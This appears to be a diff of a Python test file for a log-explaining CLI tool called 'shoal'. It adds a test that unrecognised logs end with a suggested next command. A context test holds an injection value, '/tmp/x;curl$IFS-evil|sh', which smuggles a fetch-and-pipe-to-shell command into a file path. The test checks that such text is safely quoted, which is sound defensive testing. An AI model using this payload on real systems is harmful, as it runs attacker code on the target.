@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from shoal.cli.doctor import as_lines
 from shoal.tools.doctor import checks
 from shoal.tools.doctor.checks import CHECK_MEANINGS
 from shoal.tools.explain.explain import (
@@ -257,3 +258,14 @@ def test_text_from_a_log_is_quoted_in_commands() -> None:
     [explanation] = explain_text(line).explanations
     assert ";curl" not in explanation.fix.replace("'/tmp/x;curl$IFS-evil|sh'", "")
     assert "'/tmp/x;curl$IFS-evil|sh'" in explanation.fix
+
+
+@pytest.mark.parametrize(
+    ("log", "command"),
+    [("ZeroDivisionError: division by zero\n", "shoal doctor"), ("step 1 loss 4.2\n", "shoal explain RUN")],
+)
+def test_a_log_without_a_known_error_has_a_next_command(log: str, command: str) -> None:
+    text = "Traceback (most recent call last):\n" + log if "Error" in log else log
+    *_, last = as_lines(explain_text(text))
+    assert last.startswith("  next:   ")
+    assert command in last
